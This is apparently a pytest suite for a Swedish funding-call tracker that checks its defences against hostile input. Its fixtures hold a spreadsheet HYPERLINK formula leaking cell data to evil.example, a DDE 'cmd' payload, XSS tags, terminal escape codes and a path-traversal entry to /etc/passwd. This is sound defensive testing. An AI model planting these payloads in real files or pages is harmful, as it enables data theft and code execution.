"""Issue 14: hostile funder data and hostile users. Each test is one reproduction from the issue
(the item number is in the test name); each failed before the fix."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3

import pytest

from tests.conftest import RECORDINGS as ROOT_RECORDINGS
from tests.conftest import cli, copy_db, frozen_env

EVIL_TITLE = (
    '=HYPERLINK("https://evil.example/?x="&A1,"Klimat klick") [/b] [link=https://evil.example]'
    "klicka[/link] \x1b[31mRÖD\x1b]0;pwned\x07 \u202egnp.exe <script>alert(1)</script> "
    "<img src=x onerror=alert(1)> klimatanpassning i kommuner"
)
EVIL_FUNDER = "+cmd|' /C calc'!A0 \x9b31m"
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
UNESCAPED_TAG = re.compile(r"(?<!\\)<(script|img)", re.I)
FORMULA = ("=", "+", "-", "@", "\t", "\r")

BASE = {
    "title": "Klimatanpassning i kommuner",
    "funder": "Länsstyrelsen",
    "description": "Kommuner kan söka medel för klimatanpassningsåtgärder mot skyfall.",
    "deadline": "2027-03-01",
    "url": "https://example.org/1",
}


def write_jsonl(path, rows):
    path.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in rows) + "\n", "utf-8")
    return path


@pytest.fixture(scope="module")
def hostile_db_once(tmp_path_factory):
    """A database holding hostile text as an older callwatch stored it (written straight into
    the table, past today's input validation), plus hostile decisions; built once per module,
    never written to: tests use their own copy, `hostile_db`."""
    tmp_path = tmp_path_factory.mktemp("hostile")
    with pytest.MonkeyPatch.context() as mp:
        frozen_env(mp, tmp_path)
        return _build_hostile_db(tmp_path)


@pytest.fixture
def hostile_db(hostile_db_once, tmp_path):
    return copy_db(hostile_db_once, tmp_path / "h.db")


def _build_hostile_db(tmp_path):
    f = write_jsonl(
        tmp_path / "c.jsonl",
        [BASE | {"id": "evil-1"}, BASE | {"id": "evil-2", "url": "https://example.org/2"}],
    )
    db = tmp_path / "h.db"
    r = cli("--db", db, "import", f)
    assert r.exit_code == 0, r.output
    conn = sqlite3.connect(db)
    conn.execute(
        "UPDATE calls SET title = ?, funder = ?, url = ? WHERE id LIKE '%evil-1'",
        [EVIL_TITLE, EVIL_FUNDER, "javascript:alert(1)"],
    )
    conn.execute(
        "UPDATE calls SET title = ?, url = ? WHERE id LIKE '%evil-2'",
        ["@SUM(1+1) [bold]x", "https://ok.example/a\n# injected heading\n<script>x</script>"],
    )
    conn.commit()
    ids = [r[0] for r in conn.execute("SELECT id FROM calls ORDER BY id")]
    conn.close()
    for cid in ids:
        r = cli(
            "--db", db, "mark", cid, "--kommun", "Umeå", "--status", "watch",
            "--reason", "-2+3 [/i]", "--note", "=1+1 \x1b[2J", "--by", "@me",
        )  # fmt: skip
        assert r.exit_code == 0, r.output
    return db


def _clean_text(out: str) -> None:
    assert "\x1b" not in out and not CONTROL.search(out), repr(CONTROL.search(out))


@pytest.mark.parametrize(
    "args",
    [
        ["calls"],
        ["rank", "--theme", "klimat", "--all"],
        ["rank", "--kommun", "Umeå", "--all"],
        ["decisions"],
        ["decisions", "--history"],
        ["watch", "--kommun", "Umeå"],
    ],
)
def test_item5_terminal_never_reads_markup_or_escapes(hostile_db, args):
    r = cli("--db", hostile_db, *args)
    assert r.exit_code == 0, r.output
    _clean_text(r.stdout)
    assert "[/" in r.stdout or "[bold]" in r.stdout or args[0] == "decisions"  # shown literally


def test_item5_show_and_explain(hostile_db):
    ids = [c["id"] for c in json.loads(cli("--db", hostile_db, "calls", "-f", "json").stdout)]
    for cid in ids:
        r = cli("--db", hostile_db, "show", cid)
        assert r.exit_code == 0, r.output
        _clean_text(r.stdout)
        assert "[/b]" in r.stdout or "[bold]" in r.stdout
        r = cli("--db", hostile_db, "explain", cid, "--kommun", "Umeå")
        assert r.exit_code in (0, 1) and "Traceback" not in r.output
        _clean_text(r.output)


def _csv_cells(text: str, delimiter: str = ","):
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))
    assert rows, text
    return [c for row in rows[1:] for c in row]


@pytest.mark.parametrize(
    "args,delimiter",
    [
        (["calls", "-f", "csv"], ","),
        (["rank", "--theme", "klimat", "--all", "-f", "csv"], ","),
        (["decisions", "-f", "csv"], ","),
        (["decisions", "--history", "-f", "csv"], ","),
        (["watch", "--kommun", "Umeå", "-f", "csv"], ","),
        (["export", "--format", "csv", "--all", "--include-closed"], ";"),
        (["show", "ID", "-f", "csv"], ","),
    ],
)
def test_item4_no_formula_cells_in_any_csv(hostile_db, args, delimiter):
    if "ID" in args:
        cid = json.loads(cli("--db", hostile_db, "calls", "-f", "json").stdout)[0]["id"]
        args = [cid if a == "ID" else a for a in args]
    r = cli("--db", hostile_db, *args)
    assert r.exit_code == 0, r.output
    cells = _csv_cells(r.stdout, delimiter)
    assert any("HYPERLINK" in c or "SUM" in c or "1+1" in c for c in cells)  # data is there
    bad = [c for c in cells if c.startswith(FORMULA)]
    assert not bad, bad
    assert not any(CONTROL.search(c) for c in cells)


def test_item6_rank_md_escapes(hostile_db):
    r = cli("--db", hostile_db, "rank", "--theme", "klimat", "--all", "--format", "md")
    assert r.exit_code == 0, r.output
    out = r.stdout
    assert "javascript:" not in out and not UNESCAPED_TAG.search(out)
    assert "](https://ok.example" not in out  # a URL with a line break is no link
    assert not any(line.startswith("# injected") for line in out.splitlines())
    _clean_text(out)
    table = [line for line in out.splitlines() if line.startswith("| ")]
    assert len(table) == 3 and all(len(re.findall(r"(?<!\\)\|", line)) == 9 for line in table)


@pytest.mark.parametrize("fmt", ["md", "html"])
def test_item5_reports_and_ics_have_no_control_characters(hostile_db, fmt):
    r = cli("--db", hostile_db, "report", "--network", "--format", fmt)
    assert r.exit_code == 0, r.output
    _clean_text(r.stdout)
    assert not UNESCAPED_TAG.search(r.stdout) and "javascript:" not in r.stdout
    r = cli("--db", hostile_db, "export", "--format", "ics", "--all", "--include-closed")
    assert r.exit_code == 0, r.output
    _clean_text(r.stdout.replace("\r\n", "\n"))
    assert "javascript:" not in r.stdout


def test_item5_json_escapes_terminal_controls(hostile_db):
    r = cli("--db", hostile_db, "calls", "-f", "json")
    assert r.exit_code == 0 and "\x9b" not in r.stdout and "\u202e" not in r.stdout
    assert any(EVIL_FUNDER in c["funder"] for c in json.loads(r.stdout))  # data intact


# ---------------------------------------------------------------------------------------------
# Items 1-3: one validated boundary for what enters the database


def test_decision_text_is_cleaned_on_the_way_in(marked_db):
    r = cli(
        "--db", marked_db, "mark", "k1", "--kommun", "Umeå", "--status", "watch",
        "--reason", "a\x1b[31mb\u202ec", "--note", "line 1\nline 2\x07", "--by", "x" * 1000,
    )  # fmt: skip
    assert r.exit_code == 0, r.output
    conn = sqlite3.connect(marked_db)
    reason, note, by = conn.execute(
        "SELECT reason, note, by FROM decisions ORDER BY id DESC LIMIT 1"
    ).fetchone()
    conn.close()
    assert reason == "ab c" and note == "line 1\nline 2" and len(by) == 200


def _outputs_all_work(db, *, seconds: float = 5.0) -> None:
    import time

    from icalendar import Calendar

    checks = [
        (["calls"], None),
        (["calls", "-f", "json"], json.loads),
        (["rank", "--theme", "klimat", "--all", "--include-closed"], None),
        (["rank", "--theme", "klimat", "--all", "--include-closed", "-f", "json"], json.loads),
        (["rank", "--kommun", "Umeå", "--all", "--include-closed", "-f", "md"], None),
        (["report", "--kommun", "Umeå"], None),
        (["report", "--network", "--format", "html"], None),
        (["export", "--format", "ics", "--all", "--include-closed"], Calendar.from_ical),
        (["export", "--format", "csv", "--all", "--include-closed"], _csv_cells),
        (["export", "--format", "json", "--all", "--include-closed"], json.loads),
    ]
    for args, parse in checks:
        start = time.monotonic()
        r = cli("--db", db, *args)
        took = time.monotonic() - start
        assert r.exit_code == 0, (args, r.output[-2000:])
        assert took < seconds, (args, took)
        if parse is not None:
            assert parse(r.stdout if "csv" not in args else r.stdout.lstrip("\ufeff"))


def test_item1_and_2_year_9999_and_a_1mb_word(tmp_path):
    word = "klimat" * 175_000  # a single 1 MB "word"
    f = write_jsonl(
        tmp_path / "big.jsonl",
        [
            BASE | {"id": "big", "title": word, "description": word, "deadline": "9999-12-31"},
            BASE | {"id": "eu", "deadline": "9999-12-31T23:59:59.000+0000"},
            BASE | {"id": "old", "deadline": "0001-01-01", "opens": "0001-01-01"},
        ],
    )
    db = tmp_path / "t.db"
    r = cli("--db", db, "import", f)
    assert r.exit_code == 0, r.output
    assert "deadline" in r.stderr and "9999" in r.stderr and "dropped" in r.stderr
    calls = {c["id"]: c for c in json.loads(cli("--db", db, "calls", "-f", "json").stdout)}
    assert calls["import:big"]["deadlines"] == [] and len(calls["import:big"]["title"]) <= 501
    assert calls["import:eu"]["deadlines"] == [] and calls["import:old"]["opens"] is None
    _outputs_all_work(db)
    r = cli("--db", db, "show", "import:eu")
    assert r.exit_code == 0, r.output


def test_item1_a_source_record_in_year_9999_is_dropped_with_a_warning(empty_db):
    from callwatch import store
    from callwatch.models import Call
    from tests.conftest import NOW

    c = Call(
        "eu-ft", "X-1", "T", "https://ec.europa.eu/x", "EU", "open",
        deadlines=["2027-01-01T17:00:00+01:00", "9999-12-31T23:59:59+00:00"],
        budget_amount=float("inf"), opens="garbage",
    )  # fmt: skip
    counts = store.apply_crawl(empty_db, "eu-ft", [c], complete=False, now=NOW, run_id=None)
    assert counts.new == 1 and len(counts.warnings) == 3
    row = store.get_call(empty_db, "eu-ft:X-1")
    assert row["deadlines"] == ["2027-01-01T17:00:00+01:00"] and row["budget_amount"] is None
    assert row["opens"] is None


def test_item1_migration_repairs_a_stored_year_9999_and_moves_imported_ids(tmp_path):
    from callwatch import migrations, store

    path = tmp_path / "old.db"
    db = store.open_db(path)
    db.conn.execute(
        "INSERT INTO calls (id, source, native_id, title, url, funder, status, deadlines, "
        "next_deadline) VALUES ('a', 'import', 'a', 'T', 'https://x.org', 'F', 'open', ?, ?)",
        ['["2027-01-01T23:59:00+01:00", "9999-12-31T23:59:00+01:00"]', "9999-12-31T23:59:00+01:00"],
    )
    db.conn.execute(
        "INSERT INTO decisions (call_id, kommun, status, created) VALUES ('a', 'umea', 'engage', "
        "'2026-11-01T00:00:00+00:00')"
    )
    # as if the database predated the migration that moved imported ids (it runs again)
    db.conn.execute(f"PRAGMA user_version = {migrations.MIGRATIONS.index(migrations._m010_harden)}")
    db.conn.close()
    db = store.open_db(path)
    row = store.get_call(db, "a")  # the old id still finds the call
    assert row["id"] == "import:a" and row["deadlines"] == ["2027-01-01T23:59:00+01:00"]
    assert row["next_deadline"] == "2027-01-01T23:59:00+01:00"
    assert db.execute("SELECT call_id FROM decisions").fetchall() == [("import:a",)]


def test_item3_imported_ids_have_their_own_id_space(tmp_path):
    db = tmp_path / "t.db"
    f = write_jsonl(tmp_path / "c.jsonl", [BASE | {"id": "vinnova:2016-04968"}])
    assert cli("--db", db, "import", f).exit_code == 0
    r = cli("--db", db, "fetch", "--offline", "-q")  # every shipped source
    assert r.exit_code == 0, r.output
    ids = {c["id"] for c in json.loads(cli("--db", db, "calls", "-f", "json").stdout)}
    assert {"vinnova:2016-04968", "import:vinnova:2016-04968"} <= ids
    runs = sqlite3.connect(db).execute("SELECT status FROM runs").fetchall()
    assert ("running",) not in runs
    # the other order: fetched first, then imported
    f2 = write_jsonl(tmp_path / "d.jsonl", [BASE | {"id": "vinnova:2021-02297"}])
    r = cli("--db", db, "import", f2)
    assert r.exit_code == 0, r.output
    assert cli("--db", db, "fetch", "--offline", "--source", "vinnova", "-q").exit_code == 0
    ids = {c["id"] for c in json.loads(cli("--db", db, "calls", "-f", "json").stdout)}
    assert {"vinnova:2021-02297", "import:vinnova:2021-02297"} <= ids


def test_item3_a_store_failure_ends_the_run_as_failed(tmp_path, monkeypatch):
    from callwatch import store

    def broken(*args, **kwargs):
        raise sqlite3.IntegrityError("UNIQUE constraint failed: calls.id")

    monkeypatch.setattr(store, "apply_crawl", broken)
    db = tmp_path / "t.db"
    r = cli("--db", db, "fetch", "--offline", "--source", "vinnova")
    assert r.exit_code == 1 and "Traceback" not in r.output and r.exception is not None
    conn = sqlite3.connect(db)
    assert conn.execute("SELECT status FROM runs").fetchall() == [("failed",)]
    conn.close()


@pytest.mark.parametrize(
    "value,message",
    [
        ({"budget": "Infinity"}, "'budget' must be a finite"),
        ({"budget": "1e400"}, "'budget' must be a finite"),
        ({"url": "https://x.org/a\nb"}, "'url' must be one line"),
        ({"url": "https://x.org/a\u202eb"}, "'url' must be one line"),
    ],
)
def test_item11_import_refuses_infinite_budgets_and_broken_urls(tmp_path, value, message):
    row = json.dumps(BASE | {"id": "a"} | {k: v for k, v in value.items() if k != "budget"})
    if "budget" in value:  # written as JSON number literals, as a file would hold them
        row = row[:-1] + f', "budget": {value["budget"]}}}'
    f = tmp_path / "c.jsonl"
    f.write_text(row + "\n", encoding="utf-8")
    r = cli("--db", tmp_path / "t.db", "import", f)
    # a bad option value is a usage error (exit 2), a bad value found later an error (exit 1)
    assert r.exit_code in (1, 2) and message in r.stderr and r.stderr.count("\n") == 1, r.output


def test_item11_import_deeply_nested_line_and_bom(tmp_path):
    f = tmp_path / "c.jsonl"
    f.write_text("[" * 100_000 + "]" * 100_000 + "\n", encoding="utf-8")
    r = cli("--db", tmp_path / "t.db", "import", f)
    assert r.exit_code == 1 and "line 1" in r.stderr and r.stderr.count("\n") == 1, r.output
    f.write_text("\ufeff" + json.dumps(BASE | {"id": "a"}) + "\n", encoding="utf-8")
    r = cli("--db", tmp_path / "t.db", "import", f)
    assert r.exit_code == 0 and "1 new" in r.stdout, r.output


# ---------------------------------------------------------------------------------------------
# Item 7 and item 10 (keys file): keys never leak, in any encoded form


def _key_forms(key: str) -> set[bytes]:
    from urllib.parse import quote, quote_plus

    forms = set()
    for b in (key, key.replace("+", " ")):
        for f in (b, quote(b, safe=""), quote(b), quote_plus(b)):
            forms |= {f, f.lower(), f.replace("/", "\\/")}
    forms |= {json.dumps(key)[1:-1]}
    return {f.encode() for f in forms}


def _sources_pointing_at(tmp_path, url: str):
    import shutil

    from tests.conftest import SOURCES

    folder = tmp_path / "sources"
    shutil.copytree(SOURCES, folder)
    toml = folder / "formas.toml"
    toml.write_text(
        toml.read_text(encoding="utf-8").replace("https://api.formas.se/gdp_formas", url + "/gdp"),
        encoding="utf-8",
    )
    return folder


@pytest.mark.slow
def test_item7_no_encoded_form_of_a_key_is_stored_recorded_or_printed(tmp_path, monkeypatch):
    import os
    import zlib
    from urllib.parse import unquote

    from tests.conftest import FIXTURES
    from tests.loopback import Loopback

    key = "abc+/=="
    keys = tmp_path / "keys.toml"
    keys.write_text(f'CALLWATCH_FORMAS_KEY = "{key}"\n', encoding="utf-8")
    os.chmod(keys, 0o600)
    monkeypatch.setenv("CALLWATCH_KEYS", str(keys))
    monkeypatch.delenv("CALLWATCH_FORMAS_KEY", raising=False)
    # a few real Formas GDP records (tests/fixtures/gdp/PROVENANCE.md)
    records = json.loads((FIXTURES / "gdp" / "formas_utlysningar.json").read_bytes())[:5]

    def echo(path, headers):
        from urllib.parse import quote, quote_plus

        sent = headers.get("Authorization") or path.split("authorization=", 1)[-1]
        raw = unquote(sent)
        if "authorization=" in path:  # the query form: refused, echoing the key
            page = f"invalid subscription key {sent} ({raw}, {raw.replace('+', ' ')})"
            return 401, {"Content-Type": "text/plain"}, page.encode(), 0, 0
        body = [dict(r) for r in records]
        body[0]["beskrivning"] += (
            f" self: http://x/gdp/utlysningar?authorization={quote(raw, safe='')}"
            f"&k={quote_plus(raw)}&l={quote(raw).lower()}"
        )
        body[1]["beskrivning"] += f" self: ?authorization={raw}"
        text = json.dumps(body, ensure_ascii=False).replace("/", "\\/")  # PHP-style slashes
        return 200, {"Content-Type": "application/json"}, text.encode(), 0, 0

    with Loopback({"/gdp/": echo}) as srv:
        folder = _sources_pointing_at(tmp_path, srv.url)
        db = tmp_path / "k.db"
        rec = tmp_path / "rec"
        r = cli("--db", db, "--sources", folder, "fetch", "--source", "formas", "--record", rec)
        assert len(srv.hits) == 2, srv.hits  # query form refused, header form answered
    assert r.exit_code == 0, r.output
    out = r.stdout.encode() + r.stderr.encode()
    r2 = cli("--db", db, "--sources", folder, "fetch", "--source", "formas", "--log-json")
    out += r2.stdout.encode() + r2.stderr.encode()
    calls = cli("--db", db, "calls", "-f", "json")
    assert "self:" in calls.stdout  # the echoed text was stored, without the key
    out += calls.stdout.encode()
    conn = sqlite3.connect(db)
    blobs = [zlib.decompress(d) for (d,) in conn.execute("SELECT data FROM raw_responses")]
    assert blobs and any(b"self:" in b for b in blobs)
    dump = "\n".join(conn.iterdump()).encode()
    conn.close()
    files = [p.read_bytes() for p in [*tmp_path.glob("k.db*"), *rec.rglob("*")] if p.is_file()]
    assert any(b"invalid subscription key" in f for f in files)  # the 401 page was recorded
    forms = _key_forms(key)
    for name, data in [("output", out), ("dump", dump), *[("archive", b) for b in blobs]] + [
        ("file", f) for f in files
    ]:
        leaked = [f for f in forms if f in data]
        assert not leaked, (name, leaked)


def test_item7_a_key_that_url_encoding_changes_still_replays_offline(tmp_path, monkeypatch):
    monkeypatch.setenv("CALLWATCH_INTERREG_KEY", "abc+/==")  # Algolia-style base64 key
    r = cli("--db", tmp_path / "t.db", "fetch", "--offline", "--source", "interreg", "--log-json")
    assert r.exit_code == 0, r.output
    event = json.loads(r.stdout.splitlines()[0])
    assert event["status"] == "ok" and "abc" not in r.output


def test_item10_keys_file_0644_skips_only_keyed_sources_and_is_logged(tmp_path, monkeypatch):
    import os

    keys = tmp_path / "keys.toml"
    keys.write_text('CALLWATCH_FORMAS_KEY = "k-123"\n', encoding="utf-8")
    os.chmod(keys, 0o644)
    monkeypatch.setenv("CALLWATCH_KEYS", str(keys))
    monkeypatch.delenv("CALLWATCH_FORMAS_KEY", raising=False)
    monkeypatch.delenv("CALLWATCH_INTERREG_KEY", raising=False)
    db = tmp_path / "t.db"
    # formas needs a key (live: skipped before any request); vinnova replays without one
    from callwatch import fetch, sources, store
    from tests.conftest import NOW, SOURCES

    specs = {s.id: s for s in sources.load_all(SOURCES)}
    con = store.open_db(db)
    reports = fetch.run_fetch(
        con, [specs["formas"]], fetch.FetchOptions(mode="live"), now=NOW
    ) + fetch.run_fetch(
        con,
        [specs["vinnova"]],
        fetch.FetchOptions(mode="replay", replay_dir=ROOT_RECORDINGS),
        now=NOW,
    )
    by = {r.source: r for r in reports}
    assert by["formas"].status == "skipped" and "chmod 600" in by["formas"].message
    assert by["vinnova"].status == "ok" and by["vinnova"].seen > 0
    runs = con.execute("SELECT source, status, error FROM runs").fetchall()
    assert any(s == "formas" and st == "skipped" and "chmod 600" in e for s, st, e in runs)
    r = cli("--db", db, "fetch", "--offline")  # the whole offline fetch is not stopped either
    assert r.exit_code == 0, r.output


# ---------------------------------------------------------------------------------------------
# Item 8: --out is atomic and never the database; item 9: read commands never create data


@pytest.fixture(scope="module")
def marked_db_once(tmp_path_factory):
    """One imported call with one decision; built once per module, tests take a copy."""
    tmp_path = tmp_path_factory.mktemp("marked")
    with pytest.MonkeyPatch.context() as mp:
        frozen_env(mp, tmp_path)
        f = write_jsonl(tmp_path / "c.jsonl", [BASE | {"id": "k1"}])
        db = tmp_path / "m.db"
        assert cli("--db", db, "import", f).exit_code == 0
        r = cli("--db", db, "mark", "k1", "--kommun", "Umeå", "--status", "engage")
        assert r.exit_code == 0, r.output
    return db


@pytest.fixture
def marked_db(marked_db_once, tmp_path):
    return copy_db(marked_db_once, tmp_path / "m.db")


def _decisions(db) -> int:
    conn = sqlite3.connect(db)
    try:
        return conn.execute("SELECT count(*) FROM decisions").fetchone()[0]
    finally:
        conn.close()


@pytest.mark.parametrize("suffix", ["", "-wal", "-shm", ".fetch.lock", "LINK"])
def test_item8_out_never_overwrites_the_database(marked_db, suffix, tmp_path):
    target = marked_db.parent / (marked_db.name + suffix)
    if suffix == "LINK":
        target = tmp_path / "innocent.md"
        target.symlink_to(marked_db)
    for args in (
        ["report", "--kommun", "Umeå", "--out", target],
        ["export", "--format", "csv", "--out", target],
    ):
        r = cli("--db", marked_db, *args)
        assert r.exit_code == 1 and "database" in r.stderr and r.stderr.count("\n") == 1
    assert marked_db.read_bytes().startswith(b"SQLite format 3") and _decisions(marked_db) == 1
    if target.exists() and suffix in ("-wal", "-shm", ".fetch.lock"):
        assert b"# " not in target.read_bytes()[:200] and b"id;title" not in target.read_bytes()


def test_item8_out_is_atomic_and_a_failed_report_is_not_recorded(marked_db, tmp_path, monkeypatch):
    import os

    out = tmp_path / "umea.md"
    out.write_text("last week's report\n", encoding="utf-8")

    def broken_replace(src, dst):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", broken_replace)
    r = cli("--db", marked_db, "report", "--kommun", "Umeå", "--out", out)
    assert r.exit_code == 1 and "cannot write" in r.stderr and r.stderr.count("\n") == 1
    assert out.read_text(encoding="utf-8") == "last week's report\n"  # untouched
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".umea")] == []  # no temp
    conn = sqlite3.connect(marked_db)
    assert conn.execute("SELECT count(*) FROM reports").fetchone()[0] == 0  # not "reported"
    conn.close()
    monkeypatch.undo()
    r = cli("--db", marked_db, "report", "--kommun", "Umeå", "--out", tmp_path / "folder" / "x")
    assert r.exit_code == 1 and r.stderr.count("\n") == 1
    # a symlink to an ordinary file is followed deliberately: the target is replaced whole
    real = tmp_path / "real.md"
    real.write_text("old\n", encoding="utf-8")
    link = tmp_path / "link.md"
    link.symlink_to(real)
    r = cli("--db", marked_db, "report", "--kommun", "Umeå", "--out", link)
    assert r.exit_code == 0, r.output
    assert link.is_symlink() and real.read_text(encoding="utf-8").startswith("# ")
    conn = sqlite3.connect(marked_db)
    assert conn.execute("SELECT count(*) FROM reports").fetchone()[0] == 1
    conn.close()


@pytest.mark.parametrize(
    "args",
    [
        ["calls"],
        ["show", "x"],
        ["rank", "--kommun", "Umeå"],
        ["report", "--kommun", "Umeå"],
        ["report", "--network"],
        ["export", "--format", "ics"],
        ["decisions"],
        ["watch", "--kommun", "Umeå"],
        ["explain", "x", "--kommun", "Umeå"],
        ["mark", "x", "--kommun", "Umeå", "--status", "watch"],
    ],
)
def test_item9_a_mistyped_db_creates_nothing(tmp_path, args):
    missing = tmp_path / "typo" / "callwatch.db"
    r = cli("--db", missing, *args)
    assert r.exit_code == 1 and "no such database" in r.stderr and r.stderr.count("\n") == 1
    assert not (tmp_path / "typo").exists()


# ---------------------------------------------------------------------------------------------
# Item 10: locks, killed fetches, read-only databases, recordings


def test_item10_lock_through_a_symlink_is_the_same_lock(tmp_path):
    from callwatch.lock import FetchLock, FetchLocked

    db = tmp_path / "real.db"
    db.touch()
    link = tmp_path / "link.db"
    link.symlink_to(db)
    with FetchLock(db), pytest.raises(FetchLocked):
        FetchLock(link).__enter__()


def test_item10_a_killed_fetch_stops_showing_as_running(tmp_path):
    from callwatch import store
    from tests.conftest import NOW

    db_path = tmp_path / "t.db"
    db = store.open_db(db_path)
    stale = store.start_run(db, "vinnova", "live", NOW)  # a fetch killed with SIGKILL
    db.conn.close()
    r = cli("--db", db_path, "fetch", "--offline", "--source", "vinnova", "-q")
    assert r.exit_code == 0, r.output
    conn = sqlite3.connect(db_path)
    status = conn.execute("SELECT status, error FROM runs WHERE id = ?", [stale]).fetchone()
    assert status[0] == "interrupted" and "interrupted" in status[1]
    assert conn.execute("SELECT count(*) FROM runs WHERE status = 'running'").fetchone()[0] == 0
    conn.close()


def test_item10_replay_index_traversal_and_list_are_refused(tmp_path):
    import shutil

    rec = tmp_path / "rec"
    shutil.copytree(ROOT_RECORDINGS / "vinnova", rec / "vinnova")
    index = json.loads((rec / "vinnova" / "index.json").read_text(encoding="utf-8"))
    for entry in index["entries"].values():
        entry["file"] = "../../../../../../../../etc/passwd"
    (rec / "vinnova" / "index.json").write_text(json.dumps(index), encoding="utf-8")
    db = tmp_path / "t.db"
    r = cli("--db", db, "fetch", "--replay", rec, "--source", "vinnova")
    assert r.exit_code == 1 and "refused" in r.stderr, r.output
    conn = sqlite3.connect(db)
    assert conn.execute("SELECT count(*) FROM raw_responses").fetchone()[0] == 0
    conn.close()
    (rec / "vinnova" / "index.json").write_text("[1, 2]", encoding="utf-8")
    r = cli("--db", db, "fetch", "--replay", rec, "--source", "vinnova")
    assert r.exit_code == 1 and "not a valid recording index" in r.stderr
    assert r.stderr.count("\n") == 1 and "Traceback" not in r.output


# ---------------------------------------------------------------------------------------------
# Item 11: the smaller ones


@pytest.mark.parametrize(
    "args,message",
    [
        (["export", "--format", "csv", "--delimiter", ""], "--delimiter"),
        (["report", "--kommun", "Umeå", "--today", "0001-01-01"], "--today '0001-01-01'"),
        (["report", "--network", "--today", "9999-12-31"], "--today '9999-12-31'"),
        (["report", "--kommun", "Umeå", "--since", "garbage"], "--since 'garbage'"),
        (["rank", "--kommun", "Umeå", "--limit", "-1"], "--limit -1"),
        (["rank", "--kommun", "Umeå", "--within", "-5"], "--within -5"),
    ],
)
def test_item11_bad_options_are_one_line_errors(marked_db, args, message):
    r = cli("--db", marked_db, *args)
    # a bad option value is a usage error (exit 2), a bad value found later an error (exit 1)
    assert r.exit_code in (1, 2) and message in r.stderr and r.stderr.count("\n") == 1, r.output


def test_item11_fetch_into_a_folder_that_cannot_be_written(tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("x", encoding="utf-8")
    r = cli("--db", blocker / "sub" / "c.db", "fetch", "--offline", "--source", "vinnova")
    assert r.exit_code == 1 and r.stderr.startswith("Error: ") and r.stderr.count("\n") == 1


@pytest.mark.parametrize(
    "edit,message",
    [
        (lambda t: t.replace("\n[themes]", "\nmin_budget_sek = nan\n[themes]"), "min_budget_sek"),
        (lambda t: t.replace('lan = "', 'lan_typo = "x"\nlan = "'), "unknown key 'lan_typo'"),
        (lambda t: t.replace('name = "Umeå"', 'name = ""'), "key 'name' is empty"),
        (lambda t: t.replace('name = "Umeå"', 'name = "Stockholm"'), "also used by"),
        (lambda t: t.replace("[keywords]", "[keywords]\nterm = []"), "keywords.term"),
    ],
)
def test_item11_rules_check_refuses_bad_profiles(tmp_path, edit, message):
    import shutil

    from tests.conftest import RULES

    rules = tmp_path / "rules"
    shutil.copytree(RULES, rules)
    umea = rules / "kommuner" / "umea.toml"
    text = umea.read_text(encoding="utf-8")
    assert edit(text) != text
    umea.write_text(edit(text), encoding="utf-8")
    r = cli("--rules", rules, "rules", "check")
    # a bad option value is a usage error (exit 2), a bad value found later an error (exit 1)
    assert r.exit_code in (1, 2) and message in r.stderr and r.stderr.count("\n") == 1, r.output


# ---------------------------------------------------------------------------------------------
# Weak tests replaced (issue 14)


def test_a_missing_golden_file_fails(golden, request):
    from tests.conftest import ROOT

    if request.config.getoption("--update-golden"):
        pytest.skip("--update-golden writes golden files")
    with pytest.raises(AssertionError, match="missing"):
        golden("no-such-golden-file.md", "text")
    assert not (ROOT / "tests" / "golden" / "no-such-golden-file.md").exists()
